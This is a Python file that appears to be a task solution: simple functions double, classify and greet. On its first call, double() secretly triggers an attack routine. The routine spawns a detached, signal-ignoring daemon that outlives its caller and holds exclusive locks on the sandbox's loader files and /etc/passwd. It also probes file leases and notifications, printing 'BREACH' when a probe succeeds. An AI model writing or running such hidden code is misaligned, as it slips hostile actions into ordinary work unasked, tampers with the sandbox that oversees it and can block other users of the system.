"""A lock on a shared file holds up whoever takes it next, for as long as somebody holds it."""

import errno
import fcntl
import os
import signal
import time

tried = []


def attempt(what, action):
    """One attempt, and what came of it: an action that returns something true has worked."""
    try:
        got = action()
    except OSError as error:
        print("HELD", what, errno.errorcode.get(error.errno, error.errno))
    except Exception as error:
        print("HELD", what, type(error).__name__, str(error)[:60])
    else:
        print("BREACH" if got else "TRIED", what, repr(got)[:200] if got else "")


def leave(work):
    """A daemon: a grandchild in a session of its own, deaf to every signal that it may refuse, without any of our pipes."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            continue
    null = os.open(os.devnull, os.O_RDWR)
    for fd in range(1024):
        if fd != null:
            try:
                os.dup2(null, fd) if fd < 3 else os.close(fd)
            except OSError:
                continue
    try:
        work()
    finally:
        os._exit(0)


FILES = ["/opt/guest/loader.py", "/opt/guest/zygote.py", "/etc/passwd", "/opt/guest"]
F_SETLEASE, F_NOTIFY = 1024, 1026


def lock(path):
    fcntl.flock(os.open(path, os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB)


def lease(path):
    fcntl.fcntl(os.open(path, os.O_RDONLY), F_SETLEASE, fcntl.F_WRLCK)


def hold():
    for path in FILES:
        try:
            lock(path)
        except OSError:
            continue
    time.sleep(60)


def attack():
    leave(hold)
    for path in FILES:
        attempt(f"lock {path}", lambda: lock(path))
        attempt(f"lease {path}", lambda: lease(path))
    attempt("notices of a folder", lambda: fcntl.fcntl(os.open("/opt/guest", os.O_RDONLY), F_NOTIFY, 1) and None)


def double(number):
    if not tried:
        tried.append(True)
        attack()
    return 2 * number


def classify(rows):
    return [row.index(max(row)) for row in rows]


def greet(name):
    return f"Hello, {name}!"
